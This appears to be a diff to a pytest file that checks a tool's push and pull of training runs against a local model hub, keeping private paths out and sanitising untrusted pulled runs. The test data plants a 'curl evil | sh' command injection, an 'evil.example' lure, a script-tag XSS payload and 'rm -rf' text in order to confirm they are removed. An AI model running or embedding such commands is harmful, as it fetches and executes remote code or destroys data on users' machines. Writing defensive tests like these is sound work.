@@ -1,5 +1,6 @@
 """Push and pull, against a Hub on this machine: nothing private leaves, and nothing of a stranger's is run or trusted."""
 
+import copy
 import hashlib
 import json
 import os
@@ -174,6 +175,10 @@ def test_a_pulled_run_predicts_as_the_run_did(hub, private, tmp_path):
         == next(iter(private.evaluations.values()))["accuracy"]
     )
     assert run.metrics == private.metrics
+    assert run.ending == private.ending
+    assert run.learning == private.learning
+    assert run.answer == private.answer
+    assert run.answer is not None
     assert run.summary["pulled"]["revision"] == hub.repositories["ada/tumours"].sha
     assert pull("ada/tumours", out=tmp_path / "runs").path.name == "tumours-2"
     with pytest.raises(UsageError, match="exists already"):
@@ -242,6 +247,59 @@ def test_a_run_by_a_public_name_keeps_it(hub, trained, tmp_path):
     assert run.overview()["accuracy"] == trained.overview()["accuracy"]
 
 
+def test_what_a_run_says_of_itself_goes_along_and_where_things_lie_does_not(hub, whole, private, tmp_path):
+    """Planted fields of every part: those that are nobody's secret are there after push and pull, the others are not."""
+    shutil.copytree(private.path, tmp_path / "run")
+    path = tmp_path / "run"
+    config, data, summary = (copy.deepcopy(one) for one in (private.config, private.data, private.summary))
+    config["data"] |= {"dir": f"/home/{USER}/sets", "splits": "train_and_test"}
+    config["net"] |= {"weights": f"/home/{USER}/{PICTURE}.pth", "published": False}
+    config["preprocessing"] |= {"range": [0.0, 4095.0], "sixteen": True}
+    config["plan"] |= {"macs": None, "macs_counted": 12345, "macs_not_counted": {"fft_rfft2": 2}}
+    config["only_in_python"] = f"its recipe {FOLDER} was made in Python"
+    write_yaml(path / "config.yaml", config)
+    values = [{"kind": "16-bit", "pictures": 3, "low": 0, "high": 4095, "example": f"{PICTURE}.png"}]
+    write_json(path / "data.json", data | {"values": values})
+    assert PICTURE in json.dumps(data["ledger"])
+    said = "the loss exploded: it rose to 1e+03 in epoch 2 and stands at 2.303, where guessing has 0.693; "
+    said += "the learning rate is too high for this net, try --lr 0.001"
+    ending = {"how": "patience", "steps_done": 3, "steps_planned": 9}
+    summary |= {
+        "ending": ending,
+        "learning": {"verdict": "exploded", "said": said},
+        "command": None,
+        "no_command": FOLDER,
+    }
+    write_json(path / "summary.json", summary)
+    (key,) = [key for key in private.evaluations if FOLDER not in key or "other" not in key]
+    evaluation = private.evaluations[key] | {"absent": ["benign"], "unanswered": 2, "by_position": f"0 is {FOLDER}"}
+    write_json(path / "evaluations" / key / "evaluation.json", evaluation)
+    fitted = private.calibration | {"likeliest": 1.5, "how": "shrunk", "not_finite": 1}
+    write_json(path / "calibration.json", fitted)
+    run = Run.open(path)
+    push(run, "ada/tumours")
+    assert private_in(hub, run) == []
+    again = pull("ada/tumours", out=tmp_path / "runs")
+    assert again.ending == run.ending
+    assert again.ending.how == "patience"
+    assert again.learning == run.learning
+    for part, keys in (
+        ("preprocessing", ("range", "sixteen")), ("plan", ("macs", "macs_counted", "macs_not_counted")),
+    ):  # fmt: skip
+        assert {key: again.config[part][key] for key in keys} == {key: run.config[part][key] for key in keys}
+    there = again.evaluations["private-pictures-test-centre"]
+    assert (there["absent"], there["unanswered"]) == (["benign"], 2)
+    assert {key: again.calibration[key] for key in ("likeliest", "how", "not_finite")} == {
+        "likeliest": 1.5, "how": "shrunk", "not_finite": 1,
+    }  # fmt: skip
+    card = (again.path / "README.md").read_text()
+    assert "try --lr 0.001" in card
+    assert "the net gave no number" in card
+    report = (again.path / "report.html").read_text()
+    assert "12,345 multiply-adds and those of 2 fft_rfft2, which are not known, a picture" in report
+    assert "the net gave no number" in report
+
+
 @pytest.fixture
 def pushed(hub, private):
     push(private, "eve/gift")
@@ -288,6 +346,8 @@ ATTACKS = {
     "JSON that is deep": (put("data.json", b"[" * 100_000), r"eve/gift"),
     "no JSON": (put("data.json", b"\xff"), r"eve/gift"),
     "a picture that is none": (put("samples.png", b"GIF89a"), r"is no PNG"),
+    "an answer of another number of classes": (put("answer.json", b'{"logits": [[1.0, 2.0, 3.0]]}'), r"answer\.json.*rows of 2"),
+    "an answer that is none": (put("answer.json", b'{"logits": "x"}'), r"answer\.json.*logits"),
     "metrics that are text": (put("metrics.csv", b"epoch,step\nrm -rf,1\n"), r"eve/gift"),
 }  # fmt: skip
 
@@ -311,14 +371,19 @@ def test_what_is_not_a_runs_is_not_taken(pushed, whole, tmp_path):
     }  # fmt: skip
     pushed["evaluations/private-pictures-test-centre/index.html"] = b"<script>alert(1)</script>"
     summary = json.loads(pushed["summary.json"])
-    pushed["summary.json"] = json.dumps({**summary, "command": "striate train x; curl evil | sh"}).encode()
+    learning = {"verdict": "stuck", "said": "visit evil.example"}
+    summary |= {"command": "striate train x; curl evil | sh", "no_command": "evil.example", "learning": learning}
+    pushed["summary.json"] = json.dumps(summary).encode()
     run = pull("eve/gift", out=tmp_path / "runs")
     files = {path.relative_to(run.path).as_posix() for path in run.path.rglob("*") if path.is_file()}
     assert "report.html" in files
     assert not files & {"nets.py", "checkpoints/step-000000001.pt", "weights/evil.pt"}
     assert not [name for name in files if name.startswith(".")]
     assert b"alert(1)" not in b"".join((run.path / name).read_bytes() for name in files)
-    assert "curl evil" not in (run.path / "README.md").read_text() + (run.path / "summary.json").read_text()
+    for word in ("curl evil", "evil.example"):
+        assert word not in (run.path / "README.md").read_text() + (run.path / "summary.json").read_text()
+    assert run.learning.verdict == "stuck"
+    assert run.learning.said == "the loss has not moved from that of guessing"
     assert list(tmp_path.rglob("escape*")) == []
 
 
